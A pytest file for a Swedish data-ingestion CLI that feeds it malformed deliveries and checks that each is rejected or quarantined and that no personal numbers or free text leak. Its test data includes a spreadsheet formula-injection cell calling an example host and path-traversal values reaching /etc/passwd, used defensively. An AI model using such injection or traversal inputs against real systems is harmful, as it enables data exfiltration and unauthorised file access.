"""A corpus of faulty deliveries and sources files, end to end (issue 12).

One nightly run (`mellanrum run`, a subprocess, as the schedule would run it) ingests the
generated inbox plus one extra source per faulty delivery, each in its own folder and
with its own kommunkod: headerless, header-only, binary, truncated, in the wrong encoding,
linked from outside the inbox, with personal numbers and free text in every column,
formulas, huge lines, repeated headers, mixed delimiters, and deliveries that must simply
work (tab, every listed delimiter, codes in another case). Faults of the sources file
(traversal out of the inbox, bad delimiters, clashing codes …) fail at load, so each is a
fast CLI invocation of its own.

Every case asserts its outcome: the failed source named with its file and the reason, or
its quarantine rows (line, column, reason) and accepted count, or the refused sources file
with the key and the exit code. Then everything the runs left (the home folder with the
datasets, Dagster's run and event storage, the published database; the terminal output)
is scanned for every personal number (Skatteverket's test numbers, in any written form,
unkeyed hash or level-1 pseudonym) and every free-text cell delivered.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from core.keys.pseudonyms import level1_pseudonyms
from core.synthetic.text import _COMMENTS
from orchestration.cli import cli
from schemas.municipalities import GOTEBORGSREGIONEN, municipality_names
from testkit.homes import AS_OF, PASSPHRASE, REFERENCE, new_home
from testkit.leakscan import leaks_in, scan

pytestmark = pytest.mark.slow

NUMBERS = json.loads((REFERENCE / "skatteverket_testpersonnummer.json").read_text(encoding="utf-8"))
SAMORDNING = json.loads((REFERENCE / "skatteverket_testsamordningsnummer.json").read_text(encoding="utf-8"))
_SUBJECTS = ("Sjukskriven sedan mars", "Behöver tolk på arabiska", "Har körkort och bil", "Väntar på läkarintyg",
             "Avbröt praktiken i förtid", "Bor i skyddat boende", "Har barn med särskilda behov",
             "Missbruksbehandling pågår", "Skuldsanering via kommunen", "Nyligen frigiven från anstalt")  # fmt: skip
_TAILS = ("ring handläggaren först", "se journalanteckning", "kontakta socialtjänsten", "uppföljning i maj",
          "mamma hör av sig", "prata med vårdcentralen", "hade ångest vid senaste mötet", "vill inte bli uppringd")
_WHEN = ("sedan hösten", "enligt kuratorn", "efter samtal med läkare", "enligt anhörig")
# Free-text cells: a comment a caseworker typed. Every one is handed out once.
FREE_TEXTS = [f"{subject}, {tail} {when}" for when in _WHEN for subject in _SUBJECTS for tail in _TAILS]

HEADER = ["Personnummer", "Ärende-ID", "Insats", "Startdatum", "Slutdatum", "Omfattning (%)", "Samtycke",
          "Handläggare", "Kommentar"]  # fmt: skip
COLUMNS = {"Personnummer": "personnummer", "Ärende-ID": "record_id", "Insats": "insats_code",
           "Startdatum": "start_date", "Slutdatum": "end_date", "Omfattning (%)": "extent_pct",
           "Samtycke": "consent"}  # fmt: skip
AF_HEADER = ["Personnummer", "Anvisnings-ID", "Program", "Beslutsdatum", "Startdatum", "Slutdatum", "Omfattning (%)",
             "Arbetsförmedlingskontor", "Status", "Samtycke", "Kommentar"]  # fmt: skip
AF_COLUMNS = {"Personnummer": "personnummer", "Anvisnings-ID": "assignment_id", "Program": "programme_code",
              "Beslutsdatum": "decision_date", "Startdatum": "start_date", "Slutdatum": "end_date",
              "Omfattning (%)": "extent_pct", "Arbetsförmedlingskontor": "af_office", "Status": "status",
              "Samtycke": "consent"}  # fmt: skip


class Draw:
    """Hands out test numbers and free texts, each once, and remembers what it gave."""

    def __init__(self) -> None:
        self.numbers = iter(reversed(NUMBERS))
        self.texts = iter(FREE_TEXTS)
        self.given_texts: list[str] = []

    def number(self, form: str = "12-") -> str:
        canonical = next(self.numbers)
        return {"12-": f"{canonical[:8]}-{canonical[8:]}", "12": canonical, "10": canonical[2:],
                "10-": f"{canonical[2:8]}-{canonical[8:]}", "10+": f"{canonical[2:8]}+{canonical[8:]}",
                "10 - ": f"{canonical[2:8]} - {canonical[8:]}"}[form]  # fmt: skip

    def text(self) -> str:
        text = next(self.texts)
        self.given_texts.append(text)
        return text


DRAW = Draw()


def row(i: int, **cells) -> list[str]:
    """A good municipal row (their column order), with `cells` replaced by their name."""
    base = {"Personnummer": DRAW.number(), "Ärende-ID": f"C-{i:05d}", "Insats": "AT", "Startdatum": "2026-01-05",
            "Slutdatum": "2026-06-30", "Omfattning (%)": "50", "Samtycke": "Ja", "Handläggare": "H12",
            "Kommentar": DRAW.text()}  # fmt: skip
    base.update(cells)
    return [base[name] for name in HEADER]


def af_row(i: int, **cells) -> list[str]:
    base = {"Personnummer": DRAW.number("12"), "Anvisnings-ID": f"AC{i:08d}", "Program": "Kundval Rusta och matcha",
            "Beslutsdatum": "2025-12-01", "Startdatum": "2026-01-05", "Slutdatum": "2026-06-30",
            "Omfattning (%)": "100", "Arbetsförmedlingskontor": "Arbetsförmedlingen Kiruna", "Status": "Pågående",
            "Samtycke": "Ja", "Kommentar": DRAW.text()}  # fmt: skip
    base.update(cells)
    return [base[name] for name in AF_HEADER]


def delimited(rows: list[list[str]], header=HEADER, delimiter=";", encoding="utf-8", ending="\n") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=ending)
    if header:
        writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def workbook(rows: list[list], header=HEADER, sheet="Insatser") -> bytes:
    book = openpyxl.Workbook()
    book.active.title = sheet
    for line in ([header] if header else []) + rows:
        book.active.append(line)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def good(count: int, start: int = 1) -> list[list[str]]:
    return [row(i) for i in range(start, start + count)]


@dataclass
class Case:
    id: str
    files: dict[str, bytes]  # name in the case's own folder → content
    error: str = ""  # fails: what the error must say (besides the file's name)
    accepted: int | None = None  # ingested: rows accepted
    quarantine: tuple[tuple[int, str, str], ...] = ()  # ingested: (line, column, reason as a regex)
    source: dict = field(default_factory=dict)  # the source's entry, beside the base one
    kind: str = "municipal"
    link: str | None = None  # "file" or "folder": linked from outside the inbox
    failing_file: str | None = None  # the file the error names (default: the only one)

    @property
    def fails(self) -> bool:
        return bool(self.error)


IDENTITY = "looks like a personal identity number in column {!r}: never stored"
FREE = r"<free text, \d+ characters>"


def cases() -> list[Case]:
    """The faulty (and the should-work) deliveries; each line says the fault and its outcome."""
    xlsx = {"format": "xlsx", "sheet": "Insatser", "files": "insatser_*.xlsx"}
    headerless = good(2)
    headerless[0][6] = headerless[0][7] = "Ja"  # repeated cells: once "column name … appears more than once"
    truncated = delimited(good(3))
    big_comment = ", ".join([FREE_TEXTS[-1]] * 8000)  # ~300 kB in a column nobody reads
    everything_numbers = row(3, **{name: DRAW.number(form) for name, form in
                                   zip(HEADER[1:7], ["10-", "12", "12-", "10", "10", "10+"])})  # fmt: skip
    everything_text = row(3, **{name: DRAW.text() for name in HEADER})
    return [
        # --- the source fails, naming its file and the problem -----------------------------
        Case("headerless", {"insatser_1.csv": delimited(headerless, header=None)},
             error="line 1 looks like data, not a header: is the header missing?"),
        Case("headerless_xlsx", {"insatser_1.xlsx": workbook([[int(DRAW.number("10")), "C-1", DRAW.text()]] * 2,
                                                             header=None)},
             source=xlsx, error="line 1 looks like data, not a header: is the header missing?"),
        Case("binary_stray_cr", {"insatser_1.csv": b"Personnummer;Insats\r\x89\x01\x02" + bytes(range(256)) * 8},
             error="not a text file in the utf-8 encoding"),
        Case("workbook_as_csv", {"insatser_1.csv": workbook(good(2))}, error="not a text file in the"),
        Case("utf16", {"insatser_1.csv": delimited(good(2), encoding="utf-16")}, error="not a text file in the"),
        Case("corrupt_xlsx", {"insatser_1.xlsx": workbook(good(2))[:700]}, source=xlsx,
             error="not a readable .xlsx workbook"),
        Case("empty_file", {"insatser_1.csv": b""}, error="the file is empty"),
        Case("blank_lines_only", {"insatser_1.csv": b"\r\n\r\n  \r\n"}, error="the file is empty"),
        Case("header_in_cp1252_declared_utf8", {"insatser_1.csv": delimited(good(2), encoding="cp1252")},
             source={"encoding": "utf-8"}, error="line 1 is not valid utf-8 text"),
        Case("body_in_cp1252_declared_utf8",
             {"insatser_1.csv": delimited([row(1)], header=[h.replace("Ä", "A").replace("ä", "a") for h in HEADER])
              + delimited([row(2, Kommentar="Behöver " + DRAW.text())], header=None, encoding="cp1252")},
             source={"encoding": "utf-8", "columns": {**{k.replace("Ä", "A"): v for k, v in COLUMNS.items()}}},
             error="not valid utf-8 text"),
        Case("missing_column", {"insatser_1.csv": delimited([r[:4] + r[5:] for r in good(2)],
                                                            header=HEADER[:4] + HEADER[5:])},
             error="required column 'Slutdatum' is missing (the sources file maps it to 'end_date')"),
        Case("duplicated_column_name", {"insatser_1.csv": delimited(good(2), header=HEADER[:7] + ["Insats", "K"])},
             error="line 1: column name 'Insats' appears more than once"),
        Case("blank_column_name", {"insatser_1.csv": delimited(good(2), header=HEADER[:8] + [""])},
             error="line 1: column 9 has no name"),
        Case("unbalanced_quote", {"insatser_1.csv": delimited(good(2)) + ";".join(row(3)[:8]).encode()
                                  + b';"' + DRAW.text().encode() + b"\n"},
             error="a quoted field is never closed (unbalanced quotes)"),
        Case("huge_first_line", {"insatser_1.csv": ";".join(row(1)[:8] + [big_comment]).encode() + b"\n"},
             error="line 1 is longer than 65536 bytes: not a header line"),
        Case("missing_sheet", {"insatser_1.xlsx": workbook(good(2))}, source={**xlsx, "sheet": "Blad1"},
             error="the workbook has no sheet named 'Blad1'"),
        Case("empty_sheet", {"insatser_1.xlsx": workbook([], header=None)}, source=xlsx, error="the sheet is empty"),
        Case("linked_file", {}, link="file", failing_file="insatser_1.csv",
             error="resolves outside the inbox"),
        Case("linked_folder", {}, link="folder", failing_file="insatser_1.csv",
             error="resolves outside the inbox"),
        Case("no_file", {"other.txt": b"x\n"}, error="no delivered file matches", failing_file="insatser_*.csv"),
        # --- the source is ingested; bad rows are quarantined with a reason ---------------------
        Case("number_in_record_id", {"insatser_1.csv": delimited([row(1), row(2, **{"Ärende-ID": DRAW.number()}),
                                                                  row(3)])},
             accepted=2, quarantine=((3, "record_id", re.escape(IDENTITY.format("Ärende-ID"))),)),
        Case("number_in_extent", {"insatser_1.csv": delimited([row(1, **{"Omfattning (%)": DRAW.number("10")}),
                                                               row(2)])},
             accepted=1, quarantine=((2, "extent_pct", re.escape(IDENTITY.format("Omfattning (%)"))),)),
        Case("number_in_code", {"insatser_1.csv": delimited([row(1, Insats=DRAW.number("10-")), row(2)])},
             accepted=1, quarantine=((2, "insats_code", re.escape(IDENTITY.format("Insats"))),)),
        Case("number_in_consent", {"insatser_1.csv": delimited([row(1), row(2, Samtycke=DRAW.number("12"))])},
             accepted=1, quarantine=((3, "consent", re.escape(IDENTITY.format("Samtycke"))),)),
        Case("number_in_start_date", {"insatser_1.csv": delimited([row(1, Startdatum=DRAW.number("12"))])},
             accepted=0, quarantine=((2, "start_date", re.escape(IDENTITY.format("Startdatum"))),)),
        Case("number_in_end_date", {"insatser_1.csv": delimited([row(1, Slutdatum=DRAW.number("10+")), row(2)])},
             accepted=1, quarantine=((2, "end_date", re.escape(IDENTITY.format("Slutdatum"))),)),
        Case("spaced_number_in_record_id",
             {"insatser_1.csv": delimited([row(1, **{"Ärende-ID": DRAW.number("10 - ")})])},
             accepted=0, quarantine=((2, "record_id", re.escape(IDENTITY.format("Ärende-ID"))),)),
        Case("numbers_in_every_column", {"insatser_1.csv": delimited([row(1), row(2), everything_numbers])},
             accepted=2, quarantine=((4, "record_id, insats_code, start_date, end_date, extent_pct, consent",
                                      "; ".join(re.escape(IDENTITY.format(name)) for name in HEADER[1:7])),)),
        Case("free_text_in_every_column", {"insatser_1.csv": delimited([row(1), everything_text])},
             accepted=1, quarantine=((3, "personnummer, record_id, insats_code, start_date, end_date, extent_pct, "
                                         "consent",
                                      rf"personnummer: [^;]+; "
                                      rf"record id is free text, not an id or a name: never stored; "
                                      rf"unknown intervention code {FREE}: not mapped in the sources file; "
                                      rf"start date {FREE} is not a date in the form YYYY-MM-DD; "
                                      rf"end date {FREE} is not a date in the form YYYY-MM-DD; "
                                      rf"extent pct {FREE} is not a number; "
                                      rf"unknown consent value {FREE}: not mapped in the sources file"),)),  # fmt: skip
        Case("free_text_record_id", {"insatser_1.csv": delimited([row(1, **{"Ärende-ID": DRAW.text()}), row(2)])},
             accepted=1, quarantine=((2, "record_id", "record id is free text, not an id or a name: never stored"),)),
        Case("formula_record_id",
             {"insatser_1.csv": delimited([row(1), row(2, **{"Ärende-ID": '=HYPERLINK("http://x.example/?"&A1)'})])},
             accepted=1, quarantine=((3, "record_id", re.escape(
                 "record id starts like a spreadsheet formula (=, +, - or @): never stored")),)),
        Case("free_text_code_and_date", {"insatser_1.csv": delimited([row(1, Insats=DRAW.text()),
                                                                      row(2, Startdatum=DRAW.text()), row(3)])},
             accepted=1, quarantine=(
                 (2, "insats_code", rf"unknown intervention code {FREE}: not mapped in the sources file"),
                 (3, "start_date", rf"start date {FREE} is not a date in the form YYYY-MM-DD"))),
        Case("huge_lines", {"insatser_1.csv": delimited([row(1, Kommentar=big_comment),
                                                         row(2, **{"Ärende-ID": "x" * 5000})])},
             accepted=1, quarantine=((3, "record_id", "record id is free text, not an id or a name: never stored"),)),
        Case("repeated_header", {"insatser_1.csv": delimited(good(2)) + delimited(good(2, 3))},
             accepted=4, quarantine=((4, "(row)", re.escape("the header line again, inside the file: skipped")),)),
        Case("truncated", {"insatser_1.csv": truncated[: truncated.rindex(b";2026-01-05")]},
             accepted=2, quarantine=((4, "(row)", "expected 9 fields separated by ';', found 3"),)),
        Case("mixed_delimiters", {"insatser_1.csv": delimited([row(1)]) + delimited([row(2)], header=None,
                                                                                   delimiter=",")},
             accepted=1, quarantine=((3, "(row)", "expected 9 fields separated by ';', found 1"),)),
        Case("extra_fields", {"insatser_1.csv": delimited([row(1) + [DRAW.number(), DRAW.text()], row(2)])},
             accepted=1, quarantine=((2, "(row)", "expected 9 fields separated by ';', found 11"),)),
        Case("extent_out_of_range", {"insatser_1.csv": delimited([row(1, **{"Omfattning (%)": "140"}),
                                                                  row(2, **{"Omfattning (%)": "123456789012345678"})])},
             accepted=0, quarantine=(
                 (2, "extent_pct", re.escape("extent 140 % is outside the range above 0 up to 100 %")),
                 (3, "extent_pct", r"extent [0-9]{18} % is outside the range above 0 up to 100 %"))),
        Case("duplicate_record_id", {"insatser_1.csv": delimited([row(1), row(1, Insats="SYV")])},
             accepted=1,
             quarantine=((3, "record_id", "record id 'C-00001' already at line 2 with different content"),)),
        Case("xlsx_number_cells",
             {"insatser_1.xlsx": workbook([row(1), row(2, **{"Omfattning (%)": int(DRAW.number("10"))})])},
             source=xlsx, accepted=1, quarantine=((3, "extent_pct", re.escape(IDENTITY.format("Omfattning (%)"))),)),
        Case("xlsx_repeated_header", {"insatser_1.xlsx": workbook(good(1) + [HEADER] + good(1, 2))}, source=xlsx,
             accepted=2, quarantine=((3, "(row)", re.escape("the header line again, inside the file: skipped")),)),
        # --- deliveries that should simply work ----------------------------------------------------
        Case("tab_declared", {"insatser_1.csv": delimited(good(3), delimiter="\t")}, source={"delimiter": "\t"},
             accepted=3),
        Case("tab_spelled_out", {"insatser_1.csv": delimited(good(2), delimiter="\t")}, source={"delimiter": "tab"},
             accepted=2),
        Case("pipe_declared", {"insatser_1.csv": delimited(good(2), delimiter="|")}, source={"delimiter": "|"},
             accepted=2),
        Case("comma_declared", {"insatser_1.csv": delimited(good(2), delimiter=",")}, source={"delimiter": ","},
             accepted=2),
        Case("bom_and_crlf", {"insatser_1.csv": delimited(good(2), encoding="utf-8-sig", ending="\r\n")},
             source={"encoding": "auto", "delimiter": "auto"}, accepted=2),
        Case("header_only", {"insatser_1.csv": delimited([])}, accepted=0),
        Case("header_only_xlsx", {"insatser_1.xlsx": workbook([])}, source=xlsx, accepted=0),
        Case("codes_in_another_case", {"insatser_1.csv": delimited([row(1, Insats="at", Samtycke="JA"),
                                                                    row(2, Insats=" At ", Samtycke="nej"),
                                                                    row(3, Insats="praktik", Samtycke="ja")])},
             accepted=3),
        # --- AF: the same rules on an AF delivery ---------------------------------------------------------
        Case("af_faults", {"anvisningar_1.csv": delimited([
            af_row(1),
            af_row(2, **{"Anvisnings-ID": DRAW.number("10")}),
            af_row(3, Arbetsförmedlingskontor=f"Arbetsförmedlingen {DRAW.number('10-')}"),
            af_row(4, Arbetsförmedlingskontor=DRAW.text()),
            af_row(5, Arbetsförmedlingskontor="@SUM(A1:A9)"),
            af_row(6, Beslutsdatum=DRAW.number("12")),
            af_row(7, Status=DRAW.text()),
            af_row(8, Program=DRAW.number("12-")),
            af_row(9),
        ], header=AF_HEADER)}, kind="af", accepted=2, quarantine=(
            (3, "assignment_id", re.escape(IDENTITY.format("Anvisnings-ID"))),
            (4, "af_office", re.escape(IDENTITY.format("Arbetsförmedlingskontor"))),
            (5, "af_office", "af office is free text, not an id or a name: never stored"),
            (6, "af_office", re.escape("af office starts like a spreadsheet formula (=, +, - or @): never stored")),
            (7, "decision_date", re.escape(IDENTITY.format("Beslutsdatum"))),
            (8, "status", rf"unknown AF status {FREE}: not mapped in the sources file"),
            (9, "programme_code", re.escape(IDENTITY.format("Program"))),
        )),  # fmt: skip
    ]


CASES = cases()


def spare_kommunkoder() -> list[str]:
    return [code for code in sorted(municipality_names()) if code not in GOTEBORGSREGIONEN]


def source_entry(case: Case, kommunkod: str) -> dict:
    """The case's entry in the sources file: the base source with the case's changes."""
    folder = f"corpus/{case.id}"
    if case.kind == "af":
        entry = {"id": f"c_{case.id}", "kind": "af", "files": "anvisningar_*.csv", "format": "csv",
                 "encoding": "utf-8", "delimiter": ";", "columns": AF_COLUMNS,
                 "codes": {"programme_code": {"Kundval Rusta och matcha": "KROM"},
                           "status": {"Pågående": "ongoing", "Avslutad": "ended"},
                           "consent": {"Ja": True, "Nej": False}},
                 "max_quarantine_share": 1.0}  # fmt: skip
    else:
        entry = {"id": f"c_{case.id}", "kind": "municipal", "kommunkod": kommunkod, "files": "insatser_*.csv",
                 "format": "csv", "encoding": "utf-8", "delimiter": ";", "columns": COLUMNS,
                 "codes": {"insats_code": {"AT": "ARBETSTRANING", "Praktik": "PRAKTIK", "SYV": "SYV"},
                           "consent": {"Ja": True, "Nej": False}},
                 "max_quarantine_share": 1.0}  # fmt: skip
    entry.update(case.source)
    if entry["format"] == "xlsx":
        entry.pop("encoding", None)
        entry.pop("delimiter", None)
    entry["files"] = f"{folder}/{entry['files']}"
    return entry


def lay_out(inbox: Path, outside: Path) -> None:
    """Each case's files in inbox/corpus/<id>/, links to `outside`, and its source declared."""
    sources_file = inbox / "sources.yaml"
    spec = yaml.safe_load(sources_file.read_text(encoding="utf-8"))
    for case, kommunkod in zip(CASES, spare_kommunkoder(), strict=False):
        folder = inbox / "corpus" / case.id
        if case.link == "folder":
            target = outside / case.id
            target.mkdir(parents=True)
            (target / "insatser_1.csv").write_bytes(delimited(good(2)))
            folder.parent.mkdir(parents=True, exist_ok=True)
            os.symlink(target, folder)
        else:
            folder.mkdir(parents=True)
        if case.link == "file":
            target = outside / f"{case.id}.csv"
            target.write_bytes(delimited(good(2)))
            os.symlink(target, folder / "insatser_1.csv")
        for name, data in case.files.items():
            (folder / name).write_bytes(data)
        spec["sources"].append(source_entry(case, kommunkod))
    sources_file.write_text(yaml.safe_dump(spec, allow_unicode=True, sort_keys=False), encoding="utf-8")


_UNSET = ("DAGSTER_HOME", "MELLANRUM_KEYRING", "MELLANRUM_SOURCES", "MELLANRUM_RECIPIENTS", "MELLANRUM_DATABASE_URL")


def environment(home: Path) -> dict:
    """For a subprocess: this one's environment, with the home and the keyring's passphrase."""
    env = {**os.environ, "MELLANRUM_HOME": str(home), "MELLANRUM_KEYRING_PASSPHRASE": PASSPHRASE}
    for name in _UNSET:
        env.pop(name, None)
    return env


def cli_environment(home: Path) -> dict:
    """For CliRunner, which sets what is given and unsets what is None."""
    return {"MELLANRUM_HOME": str(home), "MELLANRUM_KEYRING_PASSPHRASE": PASSPHRASE, **dict.fromkeys(_UNSET)}


@pytest.fixture(scope="module")
def night(tmp_path_factory, inbox):
    """One nightly run over the generated inbox plus every case, as the schedule would run it."""
    root = tmp_path_factory.mktemp("corpus")
    home, outside = root / "home", root / "outside"
    outside.mkdir()
    ring = new_home(home, inbox, "CORPUS")
    lay_out(home / "inbox", outside)
    mellanrum = Path(sys.executable).with_name("mellanrum")
    done = subprocess.run([str(mellanrum), "run", "--as-of", AS_OF.isoformat()], env=environment(home),
                          capture_output=True, timeout=900)  # fmt: skip
    output = done.stdout.decode("utf-8", errors="replace") + done.stderr.decode("utf-8", errors="replace")
    return {"home": home, "outside": outside, "ring": ring, "done": done, "output": output}


def failures(output: str) -> dict[str, str]:
    return dict(re.findall(r"^FAILED (\S+): (.*)$", output, flags=re.MULTILINE))


def test_the_corpus_is_large_enough():
    assert len(CASES) >= 40 and len({case.id for case in CASES}) == len(CASES)
    assert len(spare_kommunkoder()) >= len(CASES)


def test_the_night_fails_exactly_the_broken_deliveries_and_goes_on(night):
    done, output = night["done"], night["output"]
    assert done.returncode == 1, output[-3000:]
    failed = failures(output)
    expected = {f"c_{case.id}" for case in CASES if case.fails}
    assert set(failed) == expected, output[-3000:]
    # The rest of the night went on: the generated sources, the reconciliation, the publication.
    assert f"{len(CASES) + 15 - len(expected)} of {len(CASES) + 15} sources ingested" in output
    assert "published as of 2026-11-23" in output


@pytest.mark.parametrize("case", [case for case in CASES if case.fails], ids=lambda case: case.id)
def test_a_broken_delivery_is_named_with_its_file_and_reason(night, case):
    error = failures(night["output"])[f"c_{case.id}"]
    name = case.failing_file or next(iter(case.files))
    assert name in error and case.error in error, error
    stored = night["home"] / "storage" / ("af_assignments" if case.kind == "af" else "municipal_interventions")
    assert not (stored / f"c_{case.id}.parquet").exists()


@pytest.mark.parametrize("case", [case for case in CASES if not case.fails], ids=lambda case: case.id)
def test_a_delivery_with_bad_rows_quarantines_each_with_its_reason(night, case):
    storage = night["home"] / "storage"
    main, quarantine = ("af_assignments", "af_quarantine") if case.kind == "af" else (
        "municipal_interventions", "municipal_quarantine")  # fmt: skip
    accepted = pd.read_parquet(storage / main / f"c_{case.id}.parquet")
    held = pd.read_parquet(storage / quarantine / f"c_{case.id}.parquet").sort_values("line")
    assert len(accepted) == case.accepted, held[["line", "column", "reason"]].to_string()
    found = list(held[["line", "column", "reason"]].itertuples(index=False, name=None))
    assert len(found) == len(case.quarantine), found
    for (line, column, reason), (want_line, want_column, want_reason) in zip(found, case.quarantine, strict=True):
        assert (line, column) == (want_line, want_column), found
        assert re.fullmatch(want_reason, reason), reason
    assert not held["reason"].str.contains(r"e\+\d").any(), "no number in scientific notation"


def test_nothing_the_night_left_holds_a_delivered_number_or_free_text(night):
    home = night["home"]
    people = sorted(set(NUMBERS) | set(SAMORDNING))
    texts = DRAW.given_texts + list(_COMMENTS)
    level1 = level1_pseudonyms(pd.Series(people), night["ring"].get("L1-CORPUS").secret).tolist()
    # The scanner sees the deliveries (and the files linked in from outside the inbox).
    assert scan(home / "inbox" / "corpus", people, texts=texts)
    assert scan(night["outside"], people, texts=texts)
    assert scan(home, people, exclude=[home / "inbox"], level1=level1, texts=texts) == []
    assert not leaks_in(night["output"], people, texts=texts)
    # What was scanned: the datasets, Dagster's run and event storage, the published database.
    assert any((home / "dagster").rglob("*.db")) and (home / "published.sqlite").exists()
    assert any((home / "storage" / "municipal_quarantine").glob("c_*.parquet"))


# --- faults of the sources file: refused on load, naming the key ------------------------------------


SOURCES_FAULTS = [
    ("files", "../outside/*.csv", "files: got '../outside/*.csv': '..' leaves the inbox"),
    ("files", "../../../../../../etc/pass*", "'..' leaves the inbox"),
    ("files", "corpus/../../outside/secret.csv", "'..' leaves the inbox"),
    ("files", "corpus\\..\\..\\outside\\secret.csv", "'..' leaves the inbox"),
    ("files", "/etc/passwd", "files: got '/etc/passwd': an absolute path"),
    ("files", "OUTSIDE", "an absolute path"),  # the secret's own absolute path
    ("files", "~/secret.csv", "an absolute path"),
    ("files", "", "give a file pattern relative to the sources file's folder"),
    ("delimiter", "::", "delimiter: got '::': expected one of auto, ';', ',', '|', tab"),
    ("encoding", "latin-42", "encoding: got 'latin-42': unknown encoding"),
    ("codes", {"insats_code": {"AT": "ARBETSTRANING", "at": "PRAKTIK"}, "consent": {"Ja": True}},
     "'AT' and 'at' are the same code (matching ignores case and spacing)"),
    ("kommunkod", 1480, "kommunkod: got 1480: write the kommunkod in quotes"),
]


@pytest.mark.parametrize(("key", "value", "message"), SOURCES_FAULTS, ids=[f"{k}={v!r}" for k, v, _ in SOURCES_FAULTS])
def test_a_broken_sources_file_is_refused_on_load_naming_the_key(tmp_path, key, value, message):
    # A delivery-like file beside the inbox: what a traversal would reach.
    (tmp_path / "outside").mkdir()
    secret = tmp_path / "outside" / "secret.csv"
    secret.write_bytes(delimited(good(2)))
    inbox = tmp_path / "inbox"
    (inbox / "corpus" / "faulty").mkdir(parents=True)
    (inbox / "corpus" / "faulty" / "insatser_1.csv").write_bytes(delimited(good(1)))
    entry = source_entry(Case("faulty", {}), "0180")
    entry[key] = str(secret) if value == "OUTSIDE" else value
    (inbox / "sources.yaml").write_text(yaml.safe_dump({"version": 1, "sources": [entry]}, allow_unicode=True),
                                        encoding="utf-8")  # fmt: skip
    home = tmp_path / "home"
    result = CliRunner().invoke(cli, ["run", "--sources", str(inbox / "sources.yaml"), "--home", str(home),
                                      "--as-of", AS_OF.isoformat()], env=cli_environment(home))  # fmt: skip
    assert result.exit_code == 2, result.output
    assert "sources[0] (id 'c_faulty')" in result.output and message in result.output
    assert "root:" not in result.output
    texts = DRAW.given_texts
    assert not leaks_in(result.output, NUMBERS, texts=texts)
    assert not home.exists() or scan(home, NUMBERS, texts=texts) == []


def test_a_sources_file_that_is_not_text_is_refused(tmp_path):
    sources = tmp_path / "sources.yaml"
    sources.write_bytes(b"version: 1\nsources:\n  - id: \xff\xfe" + DRAW.text().encode("utf-16-le"))
    result = CliRunner().invoke(cli, ["run", "--sources", str(sources), "--home", str(tmp_path / "home")],
                                env=cli_environment(tmp_path / "home"))  # fmt: skip
    assert result.exit_code == 2 and re.search(r"sources.yaml: not UTF-8 text \(byte \d+\)", result.output)
    assert not leaks_in(result.output, NUMBERS, texts=DRAW.given_texts)
